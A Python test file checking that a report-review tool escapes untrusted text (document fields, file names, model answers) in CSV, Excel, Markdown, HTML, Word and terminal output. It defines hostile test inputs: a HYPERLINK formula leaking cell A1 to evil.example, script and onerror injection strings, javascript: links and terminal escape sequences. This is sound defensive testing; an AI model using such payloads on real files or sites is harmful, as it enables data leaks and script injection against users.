"""Untrusted text (document, file names, model answers) in every output: never a spreadsheet
formula, never Markdown/HTML markup or a link, never a terminal escape or rich markup."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from markdown_it import MarkdownIt

from reviewer.batch import run_batch
from reviewer.cli import main
from reviewer.config import Config
from reviewer.llm.stage import LlmResult
from reviewer.memo.html import render_html
from reviewer.memo.markdown import render_markdown
from reviewer.memo.word import render_docx
from reviewer.model import Category, Finding, LlmRun, Report, Severity, TableLlmStatus
from reviewer.pipeline import review
from reviewer.untrusted import markdown, markdown_row, sheet_cell, sheet_row, terminal
from tests.builders import ind, make_table, with_row, write_tables
from tests.conftest import SEED
from tests.fake_stage import ScriptedStage

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
ESCAPES = "\x1b[2J\x1b]0;pwned\x07\x08"
SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
LINK = "[点我](javascript:alert(1))"
AUTOLINK = "<javascript:alert(1)>"
MARKUP = "[/][bold red]"


def _hostile_table() -> object:
    rows = with_row(0, ind(f"培训{LINK}场次", "=10场", "=10场", 20, 20, explanation=SCRIPT))
    return make_table(
        project=f"{FORMULA}{ESCAPES}{SCRIPT}",
        department=f"@SUM(1+1){IMG}{MARKUP}",
        indicators=rows,
    )


@pytest.fixture
def hostile_file(tmp_path: Path) -> Path:
    folder = tmp_path / "in"
    folder.mkdir()
    return write_tables(folder / "+cmd [x](javascript:1).txt", _hostile_table())  # type: ignore[arg-type]


def _render_md(text: str) -> str:
    """HTML as a renderer that lets raw HTML through would make it."""
    return MarkdownIt("commonmark", {"html": True}).enable("table").render(text)


def _assert_no_markup(html: str) -> None:
    lowered = html.lower()
    assert "<script" not in lowered and "<img" not in lowered
    assert "javascript:" not in re.sub(r">[^<]*<", "><", lowered)  # not in any tag or attribute


# -- spreadsheets ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "' =1+1"),
        ("\r=1+1", "' =1+1"),
        ("a\x00b\x1bc\x7fd", "abcd"),
        ("-12.5%", "-12.5%"),  # a number stays a number
        ("+4", "+4"),
        ("司法行政宣传", "司法行政宣传"),
    ],
)
def test_a_sheet_cell_is_never_a_formula(text: str, cell: str) -> None:
    assert sheet_cell(text) == cell


_ROW_CELLS = [
    *(FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", " =1", "-", "+", "- 3", "-3.", "+4x"),
    *("-12.5%", "+4", "-2.50", "1,234.5", "-5 ", "", "  ", "项目", "88.5（良）", "3~5次"),
    *(ESCAPES, SCRIPT, LINK, AUTOLINK, MARKUP, "&amp;", "a|b", "a\x00b", "行\n换"),
]


def test_a_row_of_cells_is_escaped_as_each_cell_alone() -> None:
    for a in _ROW_CELLS:
        for b in _ROW_CELLS:
            for row in ([a, b], [b, a, "安全的文字"], ["1", a, "-3", b]):
                assert sheet_row(row) == [sheet_cell(c) for c in row], row
                assert markdown_row(row) == [markdown(c) for c in row], row


def test_summary_cells_are_text_never_formulas(hostile_file: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    result = run_batch([str(hostile_file.parent)], out, config=Config(), jobs=1)
    assert result.count("reviewed") == 1
    with (out / "summary.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    row = rows[0]
    for column in ("文件", "项目名称", "主管部门"):
        assert row[column].startswith("'"), row[column]
    assert row["项目名称"].startswith("'" + FORMULA)
    text = (out / "summary.csv").read_text(encoding="utf-8-sig")
    assert "\x1b" not in text and "\x07" not in text and "\x08" not in text

    sheet = openpyxl.load_workbook(out / "summary.xlsx").active
    assert sheet is not None
    cells = [c for row_cells in sheet.iter_rows() for c in row_cells if c.value is not None]
    assert all(c.data_type != "f" for c in cells)  # no formula anywhere
    values = [str(c.value) for c in cells]
    assert any(v.startswith("'" + FORMULA) for v in values)
    assert not any(ch in v for v in values for ch in "\x1b\x07\x08")
    links = [c.hyperlink.target for c in cells if c.hyperlink is not None]
    assert links and all(not re.match(r"[A-Za-z][A-Za-z0-9+.-]*:", t) for t in links)


def test_summary_markdown_shows_names_as_text(hostile_file: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    broken = hostile_file.parent / f"{SCRIPT.replace('/', '')}.txt"
    broken.write_bytes(b"\x00\x01 not a report")
    run_batch([str(hostile_file.parent)], out, config=Config(), jobs=1)
    md = (out / "summary.md").read_text(encoding="utf-8")
    assert "\x1b" not in md
    html = _render_md(md)
    _assert_no_markup(html)
    hrefs = re.findall(r'href="([^"]*)"', html)
    assert hrefs and all(not re.match(r"[a-z]+:", h) for h in hrefs)  # relative memo paths


# -- Markdown memo ---------------------------------------------------------------------------


class _HostileModel(ScriptedStage):
    """An LLM stage whose answer carries HTML, links and escapes."""

    def run(
        self,
        report: Report,
        rule_findings: list[Finding],
        progress: Callable[[int], None] | None = None,
    ) -> LlmResult:
        finding = Finding(
            code="L101",
            category=Category.CONSISTENCY,
            severity=Severity.WARNING,
            source="llm",
            project=report.tables[0].project,
            table_index=0,
            message=f"叙述{SCRIPT}与指标不一致{AUTOLINK}{ESCAPES}",
            suggestion=f"请看{LINK}",
        )
        status = TableLlmStatus(
            table_index=0,
            project=report.tables[0].project,
            status="ok",
            assessment=f"总体尚可。{IMG}{LINK}",
        )
        return LlmResult([finding], LlmRun(enabled=True, model="fake", tables=[status]))


def test_the_markdown_memo_escapes_document_file_names_and_model_answers(
    hostile_file: Path,
) -> None:
    result = review(hostile_file, llm=_HostileModel())
    md = render_markdown(result.memo)
    assert "\x1b" not in md and "\x07" not in md
    assert SCRIPT not in md and LINK not in md
    html = _render_md(md)
    _assert_no_markup(html)
    assert "<a " not in html  # the memo has no link of its own: any link came from the text
    # the text itself is all there, as text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "[点我](javascript:alert(1))" in html


def test_the_seed_memo_reads_as_before(tmp_path: Path) -> None:
    # Escaping touches only what could start markup: the seed's memo (with its >=90分,
    # < 1.2 倍 and file_name) has no backslash in it.
    md = render_markdown(review(SEED).memo)
    assert "\\" not in md


def test_html_and_word_memos_stay_safe(hostile_file: Path) -> None:
    result = review(hostile_file, llm=_HostileModel())
    html = render_html(result.memo, result.report)
    assert "\x1b" not in html and "\x07" not in html
    body = html.split("<body", 1)[1]
    _assert_no_markup(body)
    docx = render_docx(result.memo)
    with zipfile.ZipFile(io.BytesIO(docx)) as zf:
        document = zf.read("word/document.xml").decode("utf-8")
        rels = zf.read("word/_rels/document.xml.rels").decode("utf-8")
    assert "javascript" not in rels and "evil.example" not in rels  # no hyperlink made
    assert "\x1b" not in document
    assert "&lt;script&gt;" in document  # the text, as text


def test_markdown_escapes_only_what_starts_markup() -> None:
    assert markdown("a<b c<d>") == "a\\<b c\\<d>"
    assert (
        markdown("< 1.2 倍，>=90分，file_name.txt，3~5次")
        == "< 1.2 倍，>=90分，file_name.txt，3\\~5次"
    )
    assert markdown("第一行\n第二行\t完") == "第一行 第二行 完"


# -- terminal --------------------------------------------------------------------------------


def test_terminal_text_escapes_markup_and_strips_escapes() -> None:
    assert terminal(f"[/]报告{ESCAPES}.txt") == "\\[/]报告[2J]0;pwned.txt"


def test_a_file_name_with_rich_markup_is_printed_as_is(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "[").mkdir()
    path = tmp_path / "[" / "]报告[bold].txt"  # the path reads .../[/]报告[bold].txt
    path.write_text(SEED.read_text(encoding="utf-8"), encoding="utf-8")
    code = main([str(path), "-o", str(tmp_path / "memo.md")])
    err = capsys.readouterr().err
    assert code == 1, err
    assert "]报告[bold].txt：14 张表" in err
    # brackets in a missing name make it a glob that matches nothing: listed by the batch
    missing = main([str(tmp_path / "[/]不存在[red].txt"), "--out-dir", str(tmp_path / "o")])
    err = capsys.readouterr().err
    assert missing == 2 and "[/]不存在[red].txt" in err and "内部错误" not in err


def test_document_text_reaches_the_terminal_without_escapes_or_markup(
    hostile_file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main([str(hostile_file), "--fail-on", "never"]) == 0  # the memo in the terminal
    out, err = capsys.readouterr()
    assert "\x1b" not in out + err and "\x07" not in out + err
    assert main(["parse", str(hostile_file), "--format", "table"]) == 0
    out, err = capsys.readouterr()
    assert "\x1b" not in out + err
    assert "[/][bold red]" in out  # the department, as written
    assert main([str(hostile_file.parent), "--out-dir", str(hostile_file.parent.parent / "o")]) == 0
    _out, err = capsys.readouterr()
    assert "\x1b" not in err


def test_a_file_name_that_is_not_utf8_is_reviewed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    name = b"r\xff\xfe.txt".decode("utf-8", "surrogateescape")
    path = tmp_path / name
    path.write_text(SEED.read_text(encoding="utf-8"), encoding="utf-8")
    memo = tmp_path / "memo.json"
    assert main([str(path), "-o", str(memo)]) == 1, capsys.readouterr().err
    assert json.loads(memo.read_text(encoding="utf-8"))["source"] == "r\ufffd\ufffd.txt"
    out = tmp_path / "out"
    result = run_batch([str(tmp_path)], out, config=Config(), jobs=1)
    assert result.count("reviewed") == 1
    assert (out / "r\ufffd\ufffd.md").is_file()
